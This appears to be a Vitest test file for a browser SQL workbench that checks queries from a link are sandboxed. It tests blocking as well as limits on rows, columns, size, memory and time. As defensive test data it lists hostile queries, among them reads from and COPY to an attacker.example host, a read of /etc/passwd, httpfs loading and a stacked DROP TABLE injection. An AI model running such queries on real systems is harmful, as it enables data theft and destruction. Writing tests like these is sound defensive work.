import { tableFromIPC } from "apache-arrow";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { QueryResult } from "../../src/engine/result.ts";
import type { Session } from "../../src/engine/session.ts";
import { toQueryResult } from "../../src/engine/values.ts";
import { type CellFailure, MAX_ROWS } from "../../src/workbench/run/cell-state.ts";
import { type QueryRun, type QuerySource, runQuery } from "../../src/workbench/run/sql.ts";
import { openFixture } from "../engine/fixture.ts";

const run: QueryRun = { relations: [], parameters: {}, signal: new AbortController().signal, progress: () => {} };

/** The page's engine, as far as it can be had without a worker. */
function engineOf(session: Session): QuerySource {
  return {
    state: "ready",
    subscribe: () => () => {},
    async query(sql, { parameters, relations }) {
      const { ipc, elapsedMs } = await session.query(sql, parameters, relations);
      const arrow = tableFromIPC(ipc);
      return { ...toQueryResult(arrow), elapsedMs, arrow };
    },
  };
}

const answering = (result: QueryResult): QuerySource => ({
  state: "ready",
  subscribe: () => () => {},
  query: async () => ({ ...result, elapsedMs: 1 }),
});

const failure = async (engine: QuerySource, sql: string): Promise<CellFailure> =>
  runQuery(engine, sql, run).then(
    ({ rows }) => expect.unreachable(`${sql} gave ${rows.length} rows`),
    (thrown: CellFailure) => thrown,
  );

describe("a query from a link", () => {
  let engine: QuerySource;

  beforeAll(async () => {
    engine = engineOf((await openFixture()).session);
  });

  it.each([
    "SELECT * FROM read_csv('https://attacker.example/x.csv')",
    "SELECT * FROM read_csv_auto('/etc/passwd')",
    "SELECT * FROM read_parquet('https://attacker.example/x.parquet')",
    "FROM 'https://attacker.example/x.parquet'",
    "SELECT * FROM glob('*')",
    "COPY (SELECT 1) TO 'https://attacker.example/x'",
    "ATTACH 'x.db'",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET memory_limit = '8GB'",
    "PRAGMA enable_external_access",
    "SELECT 1; DROP TABLE architectures",
    "CREATE TABLE t AS SELECT 1",
  ])("%s reads and writes nothing outside", async (sql) => {
    expect(await failure(engine, sql)).toMatchObject({ name: "CellFailure", kind: "blocked" });
  });

  it.each(["FROM 'x.json'", "WITH a AS (SELECT 1) INSERT INTO t FROM a"])("%s is no query here", async (sql) => {
    expect(await failure(engine, sql)).toMatchObject({ name: "CellFailure", kind: "sql" });
  });

  it("gets no more rows than a cell keeps", async () => {
    const { rows, isCut } = await runQuery(engine, "SELECT range AS n FROM range(100000)", run);
    expect([rows.length, isCut]).toEqual([MAX_ROWS, true]);
  });

  it("keeps fewer rows of a wide result", async () => {
    const columns = Array.from({ length: 100 }, (_, index) => `range + ${index} AS c${index}`).join(", ");
    const { rows, isCut } = await runQuery(engine, `SELECT ${columns} FROM range(6000)`, run);
    expect([rows.length, isCut]).toEqual([5_000, true]);
  });

  it.each([
    ["a value that no browser lays out in time", "SELECT repeat('x', 20001) AS x", "limit", /^A value of x has more/],
    ["a list of the same length", "SELECT list(range::VARCHAR) AS x FROM range(10000)", "limit", /^A value of x/],
    ["more bytes than the page takes", "SELECT repeat('x', 2000) AS x FROM range(10000)", "limit", /has 19 MiB/],
    ["more bytes than the engine gives", "SELECT repeat('x', 10000) FROM range(10000)", "blocked", /larger than 64 MB/],
    [
      "more memory than there is",
      "SELECT count(DISTINCT repeat(range::VARCHAR, 999)) FROM range(1400000)",
      "sql",
      /memory/,
    ],
  ] as const)("is refused %s", async (_, sql, kind, message) => {
    const found = await failure(engine, sql);
    expect(found.kind).toBe(kind);
    expect(found.message).toMatch(message);
  });

  it("is refused more columns than a table can show", async () => {
    const columns = Array.from({ length: 201 }, (_, index) => ({ name: `c${index}`, kind: "number" as const }));
    const found = await failure(answering({ columns, rows: [] }), "SELECT 1");
    expect(found).toMatchObject({ kind: "limit", message: expect.stringContaining("201 columns") });
  });

  it("is stopped when its time is over, and says so", async () => {
    vi.useFakeTimers();
    try {
      let isAborted = false;
      const endless: QuerySource = {
        state: "ready",
        subscribe: () => () => {},
        query: (_, { signal }) =>
          new Promise((_resolve, reject) => {
            signal.addEventListener("abort", () => {
              isAborted = true;
              reject(new DOMException("", "AbortError"));
            });
          }),
      };
      const found = failure(endless, "SELECT count(*) FROM range(1000000000000)");
      await vi.advanceTimersByTimeAsync(19_999);
      expect(isAborted).toBe(false);
      await vi.advanceTimersByTimeAsync(1);
      expect(await found).toMatchObject({ kind: "limit", message: expect.stringContaining("after 20 seconds") });
      expect(isAborted).toBe(true);
    } finally {
      vi.useRealTimers();
    }
  });
});
